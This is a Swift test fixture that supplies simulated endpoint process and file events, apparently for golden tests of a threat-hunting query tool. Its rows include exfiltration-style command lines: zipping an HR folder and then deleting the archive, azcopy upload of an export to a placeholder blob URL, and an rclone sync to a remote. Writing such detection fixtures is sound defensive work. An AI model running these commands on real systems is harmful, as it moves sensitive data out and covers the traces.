import HuntModel

/// A handful of events for goldens that read tables; what a row does not give is '' or null.
enum FixtureEvents {
    static var tables: [StoredTable] {
        EventTables.all.map { table in
            let rows = (events[table.name] ?? []).map { event in
                table.columns.map { event[$0.name] ?? ($0.type == .string ? .string("") : .null($0.type)) }
            }
            return StoredTable(name: table.name, columns: table.columns, rows: rows)
        }
    }

    private static let events: [String: [[String: KQLValue]]] = [
        "DeviceProcessEvents": [
            process("2026-01-29T16:47:20.4813094Z", "stefano-test", "powershell.exe", "powershell.exe -File C:\\Scripts\\Backup.ps1", 4100),
            process("2026-01-29T16:49:20.4813094Z", "stefano-test", "7z.exe", "7z.exe a dipendenti_2026-01-29.zip C:\\HR", 4200),
            process("2026-01-29T16:51:20.4813094Z", "stefano-test", "conhost.exe", "conhost.exe 0xffffffff", 4300),
            process("2026-01-29T16:51:20.4813095Z", "stefano-test", "cmd.exe", "cmd.exe /c del dipendenti_2026-01-29.zip", 4400),
            process("2026-01-29T16:49:00Z", "marta-lt022", "azcopy.exe", "azcopy.exe copy export.ZIP https://x.blob.core.windows.net", 5100),
            process("2026-01-29T16:49:00Z", "marta-lt022", "explorer.exe", "C:\\Windows\\explorer.exe", 5200),
            process("2026-01-30T08:00:00Z", "luca-lt031", "RCLONE.EXE", "RCLONE.EXE sync C:\\out remote:", 6100),
        ],
        "DeviceFileEvents": [
            file("2026-01-29T16:49:20.4813094Z", "stefano-test", "dipendenti_2026-01-29.zip", 1_048_576),
            file("2026-01-29T16:48:00Z", "stefano-test", "notes.txt", 12),
            file("2026-01-29T16:40:00Z", "marta-lt022", "export.ZIP", 7_340_032),
            file("2026-01-29T16:40:00Z", "marta-lt022", "VMAgentLogs.zip", nil),
            file("2026-01-30T08:01:00Z", "luca-lt031", "notes.txt", 12),
            file("2026-01-30T08:02:00Z", "luca-lt031", "archive.zipx", 99),
        ],
    ]

    private static func process(_ time: String, _ device: String, _ name: String, _ line: String, _ id: Int64) -> [String: KQLValue] {
        common(time, device, "ProcessCreated").merging(
            ["FileName": .string(name), "ProcessCommandLine": .string(line), "ProcessId": .long(id)]) { $1 }
    }

    private static func file(_ time: String, _ device: String, _ name: String, _ size: Int64?) -> [String: KQLValue] {
        common(time, device, "FileCreated").merging(
            ["FileName": .string(name), "FileSize": size.map(KQLValue.long) ?? .null(.long)]) { $1 }
    }

    private static func common(_ time: String, _ device: String, _ action: String) -> [String: KQLValue] {
        [
            "Timestamp": DateTime(iso8601: time).map(KQLValue.datetime) ?? .null(.datetime), "DeviceName": .string(device),
            "DeviceId": .string("id-of-" + device), "ActionType": .string(action),
        ]
    }
}
